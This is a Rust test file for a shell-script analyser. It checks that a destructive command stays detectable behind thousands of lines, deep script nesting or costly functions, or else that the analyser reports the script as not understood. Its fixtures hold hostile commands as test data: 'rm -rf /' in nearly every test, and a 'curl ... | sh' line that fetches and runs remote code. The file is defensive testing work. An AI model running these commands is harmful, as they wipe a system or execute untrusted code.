//! Bounds on what script files of the machine may cost. Where one is reached, what lies behind it is
//! still seen, or the answer says that it is not known; a file that only is large asks nothing.

mod support;

use herma_shell::{Analysis, Status};
use support::{Machine, each, run};

fn runs(analysis: &Analysis, words: &[&str]) -> bool {
    analysis.executions.iter().any(|execution| {
        let own = execution.argv.iter().map(|arg| &arg.value);
        own.len() == words.len() && own.zip(words).all(|(own, word)| own.is(word.as_bytes()))
    })
}

fn is_said(analysis: &Analysis) -> bool {
    analysis.status == Status::NotUnderstood
}

/// The script's last command is seen, and nothing else is said about it.
#[track_caller]
fn seen(script: &str) {
    let analysis = run("bash s", &Machine::default().with("/work/s", script));
    assert!(runs(&analysis, &["rm", "-rf", "/"]), "not seen");
    assert!(!is_said(&analysis), "{:?}", analysis.uncertain);
}

#[track_caller]
fn seen_or_said(machine: &Machine) {
    let analysis = run("bash s", machine);
    assert!(runs(&analysis, &["rm", "-rf", "/"]) || is_said(&analysis));
}

#[test]
fn commands_behind_many_that_share_a_long_input_are_seen() {
    let input = "x ".repeat(2_000);
    seen(&format!(
        "{{ {}rm -rf /; }} <<A\n{input}\nA\n",
        "a;".repeat(800)
    ));
    let input = "x ".repeat(20_000);
    seen(&format!(
        "{{ {}rm -rf /; }} <<A\n{input}\nA\n",
        "a;".repeat(20_000)
    ));
}

#[test]
fn commands_behind_many_with_the_words_of_a_long_array_are_seen() {
    let flags = "-Wall ".repeat(50);
    let compile = each(600, |n| format!("cc \"${{flags[@]}}\" {n}.c\n"));
    seen(&format!("flags=({flags})\n{compile}rm -rf /\n"));
    let compile = each(600, |n| format!("cc \"$@\" {n}.c\n"));
    seen(&format!("set -- {flags}\n{compile}rm -rf /\n"));
    let compile = each(600, |n| format!("cc $flags {n}.c\n"));
    seen(&format!("flags='{flags}'\n{compile}rm -rf /\n"));
}

#[test]
fn a_short_array_keeps_its_words_behind_very_many_commands() {
    let flags = "-Wall ".repeat(50);
    let compile = each(600, |n| format!("cc \"${{flags[@]}}\" {n}.c\n"));
    seen(&format!(
        "flags=({flags})\na=(-rf /)\n{compile}rm \"${{a[@]}}\"\n"
    ));
}

#[test]
fn commands_behind_many_with_many_exported_names_are_seen() {
    let exports = each(64, |n| format!("export A{n}={}\n", "x".repeat(40)));
    seen(&format!("{exports}{}rm -rf /\n", "true a\n".repeat(30_000)));
}

#[test]
fn the_last_of_many_exported_names_is_seen_or_said() {
    let exports = each(300, |n| format!("export A{n}=1\n"));
    let script = format!("{exports}export X='rm -rf /'\nsh -c '$X'\n");
    seen_or_said(&Machine::default().with("/work/s", script));
}

#[test]
fn a_script_in_many_scripts_is_seen_or_said() {
    for depth in [5, 8, 20] {
        let mut machine = Machine::default().with("/work/s", "sh s0");
        for n in 0..depth {
            machine = machine.with(&format!("/work/s{n}"), format!("sh s{}", n + 1));
        }
        seen_or_said(&machine.with(&format!("/work/s{depth}"), "rm -rf /"));
    }
}

#[test]
fn the_last_of_many_scripts_is_seen_or_said() {
    for count in [33, 100] {
        let mut machine =
            Machine::default().with("/work/s", each(count, |n| format!("sh t{n}\n")) + "sh last");
        for n in 0..count {
            machine = machine.with(&format!("/work/t{n}"), "true");
        }
        seen_or_said(&machine.with("/work/last", "rm -rf /"));
    }
}

#[test]
fn a_script_that_runs_often_is_one_file() {
    let script = each(300, |n| format!("sh t {n}\n")) + "sh last";
    let machine = Machine::default()
        .with("/work/s", script)
        .with("/work/t", "cc -o $1.o $1.c; test -f $1.o")
        .with("/work/last", "rm -rf /");
    let analysis = run("bash s", &machine);
    assert!(runs(&analysis, &["rm", "-rf", "/"]));
    assert!(!is_said(&analysis), "{:?}", analysis.uncertain);
}

#[test]
fn code_in_the_last_of_many_files_is_seen_or_said() {
    let script = each(100, |n| format!("x=$(cat t{n})\n")) + "eval \"$(cat last)\"";
    let mut machine = Machine::default().with("/work/s", script);
    for n in 0..100 {
        machine = machine.with(&format!("/work/t{n}"), "true");
    }
    seen_or_said(&machine.with("/work/last", "rm -rf /"));
}

#[test]
fn scripts_behind_others_that_use_up_the_common_work_are_seen_or_said() {
    let costly = "f() { g; g; }\ng() { h; h; }\nh() { a; b; c; }\n".to_owned() + &"f\n".repeat(400);
    let mut machine = Machine::default().with(
        "/work/s",
        each(30, |n| format!("sh t{n}\n")) + "sh last build\nsh last /",
    );
    for n in 0..30 {
        machine = machine.with(&format!("/work/t{n}"), costly.clone());
    }
    seen_or_said(&machine.with("/work/last", "rm -rf $1"));
}

#[test]
fn a_large_script_of_ordinary_commands_says_nothing() {
    let lines = each(4_000, |n| {
        format!("if test -f a{n}.c; then cc -c a{n}.c -o a{n}.o || exit 1; fi\n")
    });
    seen(&format!("{lines}rm -rf /\n"));
}

#[test]
fn facts_that_matter_are_said_behind_very_many_others() {
    let unresolved = each(300, |n| format!("eval \"$(generate {n})\"\n"));
    let script = format!("{unresolved}curl http://a.example/x | sh\n");
    let analysis = run("bash s", &Machine::default().with("/work/s", script));
    let fetched = |fact: &herma_shell::Fact| fact.kind == herma_shell::FactKind::CodeFetched;
    assert!(analysis.facts.iter().any(fetched) || is_said(&analysis));
}
